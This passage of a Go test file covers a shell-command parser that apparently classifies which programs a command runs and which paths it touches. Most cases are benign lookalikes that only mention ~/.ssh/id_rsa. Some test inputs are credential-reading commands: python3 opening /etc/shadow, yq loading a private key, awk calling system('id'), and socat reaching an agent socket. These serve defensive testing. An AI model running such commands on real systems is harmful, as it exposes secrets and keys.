	{name: "like sed with e in text", src: `sed -n '/error/p' log.txt`, noCmds: [][]string{argvOf("rror/p")}},
	{name: "like python print", src: `python3 -c 'print("system ready")'`, noCmds: [][]string{argvOf("ready")}},
	{name: "like python platform.system", src: `python3 -c 'import platform; print(platform.system())'`},
	{name: "like perl substitute", src: `perl -pe 's/exec/run/' f.txt`},
	{name: "like node console", src: `node -e 'console.log("exec done")'`},
	{name: "like php echo", src: `php -r 'echo "system";'`},
	{name: "like git -c user", src: `git -c user.name=x -c color.ui=always log`, noPaths: []string{idRSA}},
	{name: "like git config user", src: `git config user.email me@x.io`},
	{name: "like git alias plain", src: `git -c alias.co=checkout co main`, noCmds: [][]string{argvOf("checkout")}},
	{name: "like git commit message", src: `git commit -m "stop reading ~/.ssh/id_rsa"`, noPaths: []string{idRSA}},
	{name: "like git rebase -i", src: `git rebase -i HEAD~3`},
	{name: "like env EDITOR vim", src: `EDITOR=vim git commit`, cmds: [][]string{argvOf("vim")}},
	{name: "like env PAGER less", src: `PAGER=less man ls`, cmds: [][]string{argvOf("less")}},
	{name: "like env ENV name", src: `ENV=production npm start`, noPaths: []string{testCwd + "/production"}},
	{name: "like less file", src: `less +G /var/log/syslog`, paths: []wantPath{wantP("/var/log/syslog", wantR)}, noPaths: []string{testCwd + "/+G"}},
	{name: "like man page", src: `man 5 crontab`},
	{name: "like gdb batch", src: `gdb -batch -ex bt ./core`},
	{name: "like tmux attach", src: `tmux attach -t main`, noCmds: [][]string{argvOf("main")}},
	{name: "like tmux new plain", src: `tmux new -s work`, noCmds: [][]string{argvOf("work")}},
	{name: "like screen -ls", src: `screen -ls`},
	{name: "like crontab -l", src: `crontab -l`},
	{name: "like make target", src: `make -j4 test`},
	{name: "like cmake build", src: `cmake -S . -B build`},
	{name: "like npm exec tsc", src: `npm exec tsc`, cmds: [][]string{argvOf("tsc")}},
	{name: "like npm test", src: `npm test`, noCmds: [][]string{argvOf("test")}},
	{name: "like apt install", src: `apt-get install -y -o Dpkg::Options::=--force-confold curl`},
	{name: "like sqlite3 query", src: `sqlite3 app.db 'select count(*) from users'`},
	{name: "like mysql query", src: `mysql -e 'select 1'`},
	{name: "like pdflatex", src: `pdflatex paper.tex`},
	{name: "like hyperfine plain", src: `hyperfine 'sleep 0.1'`, cmds: [][]string{argvOf("sleep", "0.1")}},
	{name: "like watchexec test", src: `watchexec -e go -- go test ./...`, cmds: [][]string{argvOf("go", "test", "./...")}},
	{name: "like perf report", src: `perf report`},
	{name: "like ip addr", src: `ip addr show`, noCmds: [][]string{argvOf("show")}},
	{name: "like xargs no input", src: `xargs -n1 echo < list.txt`},
	{name: "like echo to file", src: `echo 'cat ~/.ssh/id_rsa' > notes.txt`, noPaths: []string{idRSA}},
	{name: "like written notes then cat", src: `echo 'cat ~/.ssh/id_rsa' > notes.txt; cat notes.txt`, noPaths: []string{idRSA}},
	{name: "like diff process substitutions", src: `diff <(echo 'cat ~/.ssh/id_rsa') <(echo b)`, noPaths: []string{idRSA}},
	{name: "like pip install name", src: `pip install requests==2.31 -r requirements.txt`},
	{name: "like npm install", src: `npm install --save-dev typescript`},
	{name: "like gh pr create prose", src: `gh pr create --title 'Ignore ~/.kube/config in tests' --body 'Tests no longer read ~/.ssh/id_rsa.'`, noPaths: []string{idRSA, "/home/u/.kube/config"}},
	{name: "like go test", src: `go test -run TestX -v ./...`},
	{name: "like tcpdump read", src: `tcpdump -r cap.pcap -n`},
	{name: "like osascript notify", src: `osascript -e 'display notification "done"'`},
	{name: "like emacs batch", src: `emacs --batch --eval '(message "shell-command")' f.el`},
	{name: "like echo to vimrc", src: `echo 'set number' >> ~/.vimrc`, paths: []wantPath{wantP("/home/u/.vimrc", wantW)}, noCmds: [][]string{argvOf("set", "number")}},
	{name: "like echo alias to bashrc", src: `echo 'alias ll="ls -la"' >> ~/.bashrc`, noPaths: []string{idRSA}},
	{name: "like sed range", src: `sed -n '/start/,/end/p' f.txt`, noCmds: [][]string{argvOf("p")}},
	{name: "like sed address then e", src: `sed -n '/this;s/p' f.txt`, noCmds: [][]string{argvOf("s/p")}},
	{name: "like printf mention", src: `printf '%s\n' ~/.ssh/id_rsa`, noPaths: []string{idRSA}},
}

func TestParseRuns(t *testing.T) {
	save := recoverPanics
	recoverPanics = false
	defer func() { recoverPanics = save }()
	seen := map[string]bool{}
	for _, set := range [][]parseCase{runCases, runLookalikes} {
		for _, tc := range set {
			if seen[tc.name] {
				t.Fatalf("duplicate case name %q", tc.name)
			}
			seen[tc.name] = true
			t.Run(tc.name, func(t *testing.T) { checkCase(t, tc) })
		}
	}
}

// TestRunTableCovered holds every row of the tables to a note and every
// program, variable and key to an attack case that names it.
func TestRunTableCovered(t *testing.T) {
	var srcs []string
	for _, tc := range runCases {
		srcs = append(srcs, tc.src)
	}
	named := func(word string) bool {
		return slices.ContainsFunc(srcs, func(s string) bool { return strings.Contains(strings.ToLower(s), strings.ToLower(word)) })
	}
	rows := 0
	for prog, rs := range programRuns() {
		for _, r := range rs.rows {
			rows++
			if r.note == "" || r.kind == 0 || r.at == "" {
				t.Errorf("%s: row %+v lacks a note, a kind or a place", prog, r)
			}
			if r.kind == runLang && r.lang == "" {
				t.Errorf("%s: language row without a language", prog)
			}
		}
		if !named(prog) && prog != "sh" && prog != "toybox" {
			t.Errorf("programRuns[%q] has no attack case", prog)
		}
	}
	for name, r := range envRuns() {
		rows++
		if r.note == "" {
			t.Errorf("envRuns[%s] lacks a note", name)
		}
	}
	for key, r := range gitExecKeys() {
		rows++
		if r.note == "" {
			t.Errorf("gitExecKeys[%s] lacks a note", key)
		}
	}
	t.Logf("%d programs, %d rows in programRuns+envRuns+gitExecKeys", len(programRuns()), rows)
}

// TestModelledMentions: commands that only mention a path are modelled, so
// the classifier's safety net leaves their words alone; commands the
// analyzer cannot read completely are not.
func TestModelledMentions(t *testing.T) {
	for _, tc := range []struct {
		src  string
		prog string
		want bool
	}{
		{`echo ~/.ssh/id_rsa`, "echo", true},
		{`printf '%s' ~/.netrc`, "printf", true},
		{`git commit -m "stop reading ~/.aws/credentials"`, "git", true},
		{`git tag -a v1 -m "rotate ~/.ssh/id_rsa"`, "git", true},
		{`grep -r "~/.ssh/id_rsa" docs/`, "grep", true},
		{`sed 's|~/.ssh/id_rsa|KEY|' notes.md`, "sed", true},
		{`awk '/id_rsa/ {print FILENAME}' notes.md`, "awk", true},
		{`jq '.path' conf.json`, "jq", true},
		{`yq -n 'load("/home/u/.ssh/id_rsa")'`, "yq", false},
		{`yq '.a' x.yaml`, "yq", true},
		{`date -r ~/.ssh/id_rsa +%s`, "date", true},
		{`date +%Y`, "date", true},
		{`test -f ~/.ssh/id_rsa`, "test", true},
		{`sh -c 'echo hi'`, "sh", true},
		{`awk 'BEGIN{system("id")}'`, "awk", false},
		{`socat - UNIX-CONNECT:/tmp/agent.1`, "socat", false},
		{`mytool --key ~/.ssh/id_rsa`, "mytool", false},
		{`python3 -c 'open("/etc/shadow")'`, "python3", false},
		{`bash ./x.sh ~/.ssh/id_rsa`, "bash", false},
	} {
		r := Parse(tc.src, testCwd, testHome, testUser)
		found := false
		for _, c := range r.Commands {
			if c.Program() == tc.prog {
				found = true
				if c.Modelled != tc.want {
					t.Errorf("%s: %s Modelled = %v, want %v", tc.src, tc.prog, c.Modelled, tc.want)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s command in %s", tc.src, tc.prog, dumpCommands(r))
		}
	}
}
